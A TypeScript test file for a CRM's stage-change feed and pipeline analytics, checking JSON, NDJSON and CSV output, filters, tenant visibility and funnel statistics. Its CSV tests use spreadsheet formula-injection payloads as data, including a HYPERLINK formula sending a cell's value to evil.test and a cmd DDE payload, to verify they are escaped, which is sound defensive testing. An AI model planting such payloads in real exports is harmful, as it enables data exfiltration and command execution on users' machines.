import { sql } from 'kysely'
import t from 'tap'
import { defaultPipelineId } from '../../src/commands/pipeline/pipeline.ts'
import { csvCell } from '../../src/http/kernel/csv.ts'
import { CSV_COLUMNS, representationOf } from '../../src/http/opportunities/stage-changes.ts'
import { stageChangePages } from '../../src/projections/opportunity/stage-change-queries.ts'
import { stageChangesProjector } from '../../src/projections/opportunity/stage-changes.ts'
import { FIXED_NOW, buildTestApp } from '../helpers/app.ts'
import { collectionClient } from '../helpers/fixtures.ts'
import type { Headers } from '../helpers/fixtures.ts'
import { givenOrganization } from '../helpers/identity.ts'
import { rebuildEqualsLive } from '../helpers/read-models.ts'

const BASE = '/api/opportunities/'
const FEED = `${BASE}stage-changes/`
const DAY = 86_400_000
const T0 = FIXED_NOW.getTime()
const day = (n: number) => new Date(T0 + n * DAY).toISOString()

t.test('representations by Accept and CSV quoting', async (t) => {
  t.equal(representationOf(undefined), 'json')
  t.equal(representationOf('application/x-ndjson'), 'ndjson')
  t.equal(representationOf('text/csv; charset=utf-8'), 'csv')
  t.equal(representationOf('text/html, */*;q=0.1'), 'json')
  t.equal(representationOf('application/json;q=0.5, text/csv'), 'csv')
  t.equal(representationOf('text/csv;q=0, application/x-ndjson;q=0.2'), 'ndjson')
  t.equal(csvCell(null), '')
  t.equal(csvCell(12), '12')
  t.equal(csvCell('plain'), 'plain')
  t.equal(csvCell('a, "b"'), '"a, ""b"""')
  t.equal(csvCell('two\nlines'), '"two\nlines"')
  t.equal(csvCell('a;b'), '"a;b"', 'a semicolon is quoted: a `;` locale would split the cell there')
})

t.test('a CSV cell cannot start a spreadsheet formula (issue 35, the OWASP rule): it gets a leading quote', async (t) => {
  const cases: Array<[string | number, string]> = [
    ['=HYPERLINK("http://x?"&A1,"Invoice")', `"'=HYPERLINK(""http://x?""&A1,""Invoice"")"`],
    ['=1+2', `'=1+2`], ['+1+2', `'+1+2`], ['-2+3', `'-2+3`], ['@SUM(A1)', `'@SUM(A1)`], ['\t=1', `'\t=1`], ['\r=1', `"'\r=1"`],
    ['=A1,B1', `"'=A1,B1"`], ['x;=1+2', `"x;=1+2"`], ['a=1', 'a=1'], ["'=1", "'=1"],
    // A plain decimal number is read as that number and nothing else: left as is, whatever its column.
    ['-5.00', '-5.00'], [-5, '-5'], ['-0.5', '-0.5'], ['-5e3', `'-5e3`], ['-', `'-`], ['--1', `'--1`], ['-1.', `'-1.`], ['+5', `'+5`],
  ]
  for (const [value, expected] of cases) t.equal(csvCell(value), expected, JSON.stringify(value))
})

/**
 * A scripted history (T0 = FIXED_NOW, days after it):
 *   A  admin: created 0 PROSPECTING 100 USD; 2 → QUALIFICATION with amount 150 (one PATCH); 5 → PROPOSAL; 6 renamed "Alpha Prime"; 10 → CLOSED_WON
 *   B  alice: created 1 PROSPECTING 200 EUR; 2 → QUALIFICATION (admin); 8 → CLOSED_LOST (alice)
 *   C  bob:   created 1 PROSPECTING 50, name with a comma and quotes; 4 → QUALIFICATION; 5 → PROSPECTING; 12 → QUALIFICATION
 *   D  admin: created 3 in QUALIFICATION 10, assigned to alice; 11 → CLOSED_WON
 *   E  admin: created 2, 3 → QUALIFICATION, then deleted (left out everywhere)
 *   and a Globex deal (another tenant).
 */
t.test('the stage-change feed and stage analytics (issue 8 §2)', async (t) => {
  let now = FIXED_NOW
  const { app, database, store } = await buildTestApp(t, { clock: () => now })
  const acme = await givenOrganization(app, database.db, 'Acme')
  const globex = await givenOrganization(app, database.db, 'Globex')
  const alice = await acme.addMember('alice@acme.test')
  const bob = await acme.addMember('bob@acme.test')
  const admin = acme.admin.headers
  const { inject } = collectionClient(app, BASE)
  const at = (n: number) => {
    now = new Date(T0 + n * DAY)
  }
  const ok = async (method: 'POST' | 'PATCH' | 'DELETE', url: string, headers: Headers, payload?: object) => {
    const res = await inject(method, url, headers, payload)
    t.equal(res.statusCode, 200, `${method} ${url}: ${res.body}`)
    return res.json()
  }
  const create = async (headers: Headers, payload: object) => (await ok('POST', BASE, headers, payload)).id as string
  const move = (id: string, column_id: string, headers: Headers = admin) => ok('PATCH', `${BASE}${id}/move/`, headers, { column_id })

  at(0)
  const a = await create(admin, { name: 'Alpha', amount: 100 })
  at(1)
  const b = await create(alice.headers, { name: 'Beta', amount: 200, currency: 'EUR' })
  const cName = 'Gamma, "the big one"'
  const c = await create(bob.headers, { name: cName, amount: 50 })
  at(2)
  await ok('PATCH', `${BASE}${a}/`, admin, { stage: 'QUALIFICATION', amount: 150 })
  await move(b, 'QUALIFICATION')
  const e = await create(admin, { name: 'Epsilon' })
  at(3)
  const d = await create(admin, { name: 'Delta', amount: 10, stage: 'QUALIFICATION', assigned_to: [alice.profileId] })
  await move(e, 'QUALIFICATION')
  await ok('DELETE', `${BASE}${e}/`, admin)
  at(4)
  await move(c, 'QUALIFICATION')
  at(5)
  await move(a, 'PROPOSAL')
  await move(c, 'PROSPECTING')
  at(6)
  await ok('PATCH', `${BASE}${a}/`, admin, { name: 'Alpha Prime' })
  at(8)
  await move(b, 'CLOSED_LOST', alice.headers)
  at(10)
  await move(a, 'CLOSED_WON')
  at(11)
  await move(d, 'CLOSED_WON')
  at(12)
  await move(c, 'QUALIFICATION')
  await create(globex.admin.headers, { name: 'Globex deal', amount: 1 })
  at(20)

  const pipelineId = defaultPipelineId(acme.orgId)
  const names: Record<string, string> = { [a]: 'A', [b]: 'B', [c]: 'C', [d]: 'D', [e]: 'E' }
  const actors: Record<string, string> = { [acme.admin.profileId]: 'admin', [alice.profileId]: 'alice', [bob.profileId]: 'bob' }
  type Item = { deal_id: string; deal_name: string; event_type: string; from_stage: string | null; from_stage_id: string | null; to_stage: string; days_in_previous_stage: number | null; amount: string | null; currency: string | null; actor: { id: string } | null; at: string; position: string }
  /** A row in short: deal, from → to, days in the previous stage, amount, actor, day of the change. */
  const short = (i: Item) => [names[i.deal_id], i.from_stage, i.to_stage, i.days_in_previous_stage, i.amount, i.actor && actors[i.actor.id], (Date.parse(i.at) - T0) / DAY]
  const feed = async (query = '', headers: Headers = admin) => {
    const res = await inject('GET', `${FEED}${query}`, headers)
    if (res.statusCode !== 200) t.fail(res.body)
    return res.json()
  }
  const rows = async (query = '', headers: Headers = admin) => ((await feed(`?limit=100${query}`, headers)).results as Item[]).map(short)

  const ALL = [
    ['A', null, 'PROSPECTING', null, '100.00', 'admin', 0],
    ['B', null, 'PROSPECTING', null, '200.00', 'alice', 1],
    ['C', null, 'PROSPECTING', null, '50.00', 'bob', 1],
    ['A', 'PROSPECTING', 'QUALIFICATION', 2, '150.00', 'admin', 2],
    ['B', 'PROSPECTING', 'QUALIFICATION', 1, '200.00', 'admin', 2],
    ['D', null, 'QUALIFICATION', null, '10.00', 'admin', 3],
    ['C', 'PROSPECTING', 'QUALIFICATION', 3, '50.00', 'admin', 4],
    ['A', 'QUALIFICATION', 'PROPOSAL', 3, '150.00', 'admin', 5],
    ['C', 'QUALIFICATION', 'PROSPECTING', 1, '50.00', 'admin', 5],
    ['B', 'QUALIFICATION', 'CLOSED_LOST', 6, '200.00', 'alice', 8],
    ['A', 'PROPOSAL', 'CLOSED_WON', 5, '150.00', 'admin', 10],
    ['D', 'QUALIFICATION', 'CLOSED_WON', 8, '10.00', 'admin', 11],
    ['C', 'PROSPECTING', 'QUALIFICATION', 7, '50.00', 'admin', 12],
  ]

  t.test('JSON: every entry in log order, creation first, values as they were then; deleted deals and other tenants left out', async (t) => {
    const body = await feed()
    t.same(Object.keys(body).sort(), ['count', 'error', 'limit', 'offset', 'results'])
    t.match(body, { error: false, count: 13, offset: 0, limit: 10 })
    t.equal(body.results.length, 10)
    t.same(await rows(), ALL)
    const all = (await feed('?limit=100')).results as Item[]
    const positions = all.map((i) => i.position)
    t.same(new Set(positions).size, 13)
    t.same(all[0], {
      position: positions[0], event_type: 'OpportunityCreated', deal_id: a, deal_name: 'Alpha', pipeline_id: pipelineId, from_pipeline_id: null, from_stage: null, from_stage_id: null, from_kind: null,
      to_stage: 'PROSPECTING', to_stage_id: all[3]!.from_stage_id, to_kind: 'open', amount: '100.00', currency: 'USD', actor: { id: acme.admin.profileId }, at: day(0), days_in_previous_stage: null,
    })
    t.match(all[10], { event_type: 'OpportunityStageChanged', deal_name: 'Alpha Prime', from_pipeline_id: pipelineId, from_kind: 'open', to_kind: 'won', amount: '150.00', currency: 'USD' }, 'the name at the time')
    t.match(all[3], { deal_name: 'Alpha', amount: '150.00' }, 'an amount edited by the same request as the move')
    t.match(all[1], { currency: 'EUR' })
    t.equal(all[2]!.deal_name, cName)
    t.same((await feed('?limit=2&offset=3')).results.map(short), ALL.slice(3, 5))
    t.same(((await feed('', globex.admin.headers)).results as Item[]).map((i) => [i.deal_name, i.to_stage, i.amount]), [['Globex deal', 'PROSPECTING', '1.00']], 'another tenant sees its own only')
  })

  t.test('filters, positive and negative; malformed values match nothing', async (t) => {
    const pick = (...indexes: number[]) => indexes.map((i) => ALL[i])
    const cases: [string, unknown[]][] = [
      ['&to=QUALIFICATION', pick(3, 4, 5, 6, 12)],
      ['&from=PROSPECTING&to=QUALIFICATION', pick(3, 4, 6, 12)],
      ['&from=QUALIFICATION', pick(7, 8, 9, 11)],
      ['&from=qualification', []],
      ['&to=', ALL],
      [`&actor=${alice.profileId}`, pick(1, 9)],
      [`&actor=${bob.profileId}`, pick(2)],
      ['&actor=not-a-uuid', []],
      [`&pipeline=${pipelineId}`, ALL],
      [`&pipeline=${pipelineId.toUpperCase()}`, ALL],
      [`&pipeline=${defaultPipelineId(globex.orgId)}`, []],
      ['&pipeline=nope', []],
      ['&at__gte=2026-12-02', pick(10, 11, 12)],
      ['&at__lte=2026-11-23', pick(0, 1, 2)],
      ['&at__lte=2026-11-23T08:00:00Z', pick(0)],
      ['&at__gte=2026-11-24T09:00:00.000Z&at__lte=2026-11-27', pick(3, 4, 5, 6, 7, 8)],
      ['&at__gte=2026-11-24T10:00:00%2B01:00&at__lte=2026-11-24T09:00:00Z', pick(3, 4)],
      ['&at__gte=2026-11-31', []],
      ['&at__lte=yesterday', []],
    ]
    for (const [query, expected] of cases) t.same(await rows(query), expected, query)
    t.equal((await feed('?to=QUALIFICATION')).count, 5, 'count of the filtered set')
  })

  t.test('visibility: a non-admin sees the deals they created or are assigned to (as of now)', async (t) => {
    t.same(await rows('', alice.headers), [ALL[1], ALL[4], ALL[5], ALL[9], ALL[11]])
    t.same(await rows('', bob.headers), [ALL[2], ALL[6], ALL[8], ALL[12]])
  })

  t.test('NDJSON: one JSON object per line, the whole filtered set, equal to the JSON items', async (t) => {
    const json = (await feed('?limit=100')).results
    const res = await inject('GET', `${FEED}?limit=1`, { ...admin, accept: 'application/x-ndjson' })
    t.equal(res.statusCode, 200)
    t.match(res.headers['content-type'], /^application\/x-ndjson/)
    t.equal(res.headers.vary, 'Accept')
    t.ok(res.body.endsWith('\n'))
    const lines = res.body.split('\n').filter(Boolean)
    t.equal(lines.length, 13, 'limit does not apply to a stream')
    t.same(lines.map((line) => JSON.parse(line)), json)
    const filtered = await inject('GET', `${FEED}?from=QUALIFICATION`, { ...alice.headers, accept: 'application/x-ndjson' })
    t.same(filtered.body.split('\n').filter(Boolean).map((line) => short(JSON.parse(line))), [ALL[9], ALL[11]])
    const none = await inject('GET', `${FEED}?actor=nope`, { ...admin, accept: 'application/x-ndjson' })
    t.equal(none.body, '')
  })

  t.test('the streamed read pages by keyset: every row once, in order, one page at a time', async (t) => {
    const viewer = { orgId: acme.orgId, profileId: acme.admin.profileId, isAdmin: true }
    const pages: string[][] = []
    for await (const page of stageChangePages(database.db, viewer, {}, 2)) pages.push(page.map((row) => `${row.position_commit}-${row.position_prepare}`))
    t.same(pages.map((p) => p.length), [2, 2, 2, 2, 2, 2, 1])
    t.same(pages.flat(), ((await feed('?limit=100')).results as Item[]).map((i) => i.position))
    const exact: number[] = []
    for await (const page of stageChangePages(database.db, viewer, { to: 'QUALIFICATION' }, 5)) exact.push(page.length)
    t.same(exact, [5], 'a last full page ends with one empty read')
  })

  t.test('CSV: a header row, then one quoted-as-needed row per change', async (t) => {
    const res = await inject('GET', `${FEED}?actor=${bob.profileId}`, { ...admin, accept: 'text/csv' })
    t.equal(res.statusCode, 200)
    t.match(res.headers['content-type'], /^text\/csv/)
    const [created] = (await feed(`?actor=${bob.profileId}`)).results as (Item & { to_stage_id: string })[]
    t.equal(
      res.body,
      `${CSV_COLUMNS.join(',')}\r\n` +
        `${created!.position},OpportunityCreated,${c},"Gamma, ""the big one""",${pipelineId},,,,,PROSPECTING,${created!.to_stage_id},open,50.00,USD,${bob.profileId},${day(1)},\r\n`,
    )
    const all = await inject('GET', FEED, { ...admin, accept: 'text/csv' })
    t.equal(all.body.split('\r\n').filter(Boolean).length, 14, 'header and 13 rows')
    const empty = await inject('GET', `${FEED}?from=nowhere`, { ...admin, accept: 'text/csv' })
    t.equal(empty.body, `${CSV_COLUMNS.join(',')}\r\n`)
  })

  const funnel = async (query = '', headers: Headers = admin) => {
    const res = await inject('GET', `${BASE}analytics/funnel/${query}`, headers)
    t.equal(res.statusCode, 200, res.body)
    return res.json()
  }
  const durations = async (query = '', headers: Headers = admin) => {
    const res = await inject('GET', `${BASE}analytics/stage-durations/${query}`, headers)
    t.equal(res.statusCode, 200, res.body)
    return res.json()
  }
  type FunnelRow = { stage: string; entered: number; exited_forward: number; won: number; lost: number; reached_won: number; conversion_rate: number | null }
  type DurationRow = { stage: string; entered: number; completed_stays: number; median_days: number | null; p90_days: number | null }
  const funnelRows = (body: { stages: FunnelRow[] }) => body.stages.map((s) => [s.stage, s.entered, s.exited_forward, s.won, s.lost, s.reached_won, s.conversion_rate])
  const durationRows = (body: { stages: DurationRow[] }) => body.stages.map((s) => [s.stage, s.entered, s.completed_stays, s.median_days, s.p90_days])

  t.test('funnel: entered, exited forward, won, lost, conversion to won, per stage in order', async (t) => {
    const body = await funnel()
    t.match(body, { error: false, pipeline: { id: pipelineId, name: 'Default pipeline' }, from: null, to: null })
    t.match(body.stages[0], { stage: 'PROSPECTING', label: 'Prospecting', kind: 'open', order: 1 })
    // stage, entered, exited_forward, won, lost, reached_won, conversion_rate
    t.same(funnelRows(body), [
      ['PROSPECTING', 3, 3, 0, 0, 1, 0.3333],
      ['QUALIFICATION', 4, 2, 1, 1, 2, 0.5],
      ['PROPOSAL', 1, 1, 1, 0, 1, 1],
      ['NEGOTIATION', 0, 0, 0, 0, 0, null],
      ['CLOSED_WON', 2, 0, 0, 0, 2, 1],
      ['CLOSED_LOST', 1, 0, 0, 0, 0, 0],
    ])
    t.same(await funnel(`?pipeline=${pipelineId}`), body)
    const mine = funnelRows(await funnel('', alice.headers))
    t.same(mine.filter((r) => r[1] !== 0), [['PROSPECTING', 1, 1, 0, 0, 0, 0], ['QUALIFICATION', 2, 1, 1, 1, 1, 0.5], ['CLOSED_WON', 1, 0, 0, 0, 1, 1], ['CLOSED_LOST', 1, 0, 0, 0, 0, 0]], 'a non-admin: B and D only')
    // Stays that began from 2026-11-25 (day 3) on: C back in PROSPECTING (day 5); D (day 3) and C (days 4, 12) in QUALIFICATION; later stages as before.
    const recent = funnelRows(await funnel('?from=2026-11-25'))
    t.same(recent.slice(0, 2), [['PROSPECTING', 1, 1, 0, 0, 0, 0], ['QUALIFICATION', 2, 1, 1, 0, 1, 0.5]])
    t.same(recent.slice(2), funnelRows(body).slice(2))
    t.same(funnelRows(await funnel('?to=2026-11-23')).map((r) => r.slice(0, 2)), [['PROSPECTING', 3], ['QUALIFICATION', 0], ['PROPOSAL', 0], ['NEGOTIATION', 0], ['CLOSED_WON', 0], ['CLOSED_LOST', 0]])
    t.ok(funnelRows(await funnel('?from=yesterday')).every((r) => r[1] === 0), 'a malformed date matches nothing')
  })

  t.test('stage durations: median and p90 (percentile_cont) of completed stays', async (t) => {
    // PROSPECTING stays: A 2, B 1, C 3, C 7 -> median 2.5, p90 3 + 0.7 × 4 = 5.8; QUALIFICATION: A 3, B 6, D 8, C 1 (C's stay from day 12 is open) -> 4.5, 6 + 0.7 × 2 = 7.4.
    t.same(durationRows(await durations()), [
      ['PROSPECTING', 3, 4, 2.5, 5.8],
      ['QUALIFICATION', 4, 4, 4.5, 7.4],
      ['PROPOSAL', 1, 1, 5, 5],
      ['NEGOTIATION', 0, 0, null, null],
      ['CLOSED_WON', 2, 0, null, null],
      ['CLOSED_LOST', 1, 0, null, null],
    ])
    // From day 3: QUALIFICATION stays D 8, C 1 -> median 4.5, p90 1 + 0.9 × 7 = 7.3.
    t.same(durationRows(await durations('?from=2026-11-25&to=2026-12-31')).slice(0, 3), [
      ['PROSPECTING', 1, 1, 7, 7],
      ['QUALIFICATION', 2, 2, 4.5, 7.3],
      ['PROPOSAL', 1, 1, 5, 5],
    ])
    t.same(durationRows(await durations('', bob.headers)).slice(0, 2), [
      ['PROSPECTING', 1, 2, 5, 6.6],
      ['QUALIFICATION', 1, 1, 1, 1],
    ], "bob's deal C only: PROSPECTING 3 and 7")
  })

  t.test('analytics pipelines: the default, another of the organization, another organization\'s (404)', async (t) => {
    const other = (await inject('POST', `${BASE}pipelines/`, admin, { name: 'Partners' })).json()
    const body = await funnel(`?pipeline=${other.id}`)
    t.equal(body.pipeline.id, other.id)
    t.ok(body.stages.length > 0)
    t.ok(body.stages.every((s: FunnelRow) => s.entered === 0))
    for (const pipeline of [defaultPipelineId(globex.orgId), 'not-a-uuid']) {
      t.equal((await inject('GET', `${BASE}analytics/funnel/?pipeline=${pipeline}`, admin)).statusCode, 404)
      t.equal((await inject('GET', `${BASE}analytics/stage-durations/?pipeline=${pipeline}`, admin)).statusCode, 404)
    }
  })

  t.test('the ledger rebuilt from the log is identical, and so are the answers', async (t) => {
    const live = await rebuildEqualsLive(t, { db: database.db, store }, stageChangesProjector, { answers: async () => [await funnel(), await durations()] })
    t.equal(live.stage_changes!.length, 16, '13 rows, E\'s 2 and the Globex creation')
    t.same(await rows(), ALL)
  })

  t.test('applying an event twice changes nothing', async (t) => {
    const before = (await sql`SELECT * FROM stage_changes ORDER BY event_id`.execute(database.db)).rows
    const { events } = await store.readAll({ maxCount: 10_000, eventTypes: stageChangesProjector.eventTypes })
    await database.db.transaction().execute(async (trx) => {
      for (const event of events) await stageChangesProjector.apply(trx, event)
    })
    t.same((await sql`SELECT * FROM stage_changes ORDER BY event_id`.execute(database.db)).rows, before)
  })

  t.test('CSV: a deal name that is a spreadsheet formula is exported as text; JSON and NDJSON keep it as typed (issue 35)', async (t) => {
    // Last, and in Globex: the history the tests above check stays as scripted.
    const formulas = ['=HYPERLINK("http://evil.test/?"&A1,"Invoice")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)']
    for (const name of formulas) await create(globex.admin.headers, { name })
    const csv = (await inject('GET', FEED, { ...globex.admin.headers, accept: 'text/csv' })).body
    for (const cell of [`"'=HYPERLINK(""http://evil.test/?""&A1,""Invoice"")"`, `'+1+cmd|' /C calc'!A0`, `'-2+3`, `'@SUM(A1:A9)`]) t.ok(csv.includes(`,${cell},`), `exported as ${cell}`)
    t.notMatch(csv, /(^|,)"?[=+\-@]/m, 'no cell starts a formula')
    const json = (await feed('?limit=100', globex.admin.headers)).results as Item[]
    t.same(json.slice(-4).map((item) => item.deal_name), formulas, 'JSON carries the names as typed')
    const ndjson = (await inject('GET', FEED, { ...globex.admin.headers, accept: 'application/x-ndjson' })).body
    t.same(ndjson.split('\n').filter(Boolean).slice(-4).map((line) => JSON.parse(line).deal_name), formulas, 'and so does NDJSON')
  })
})
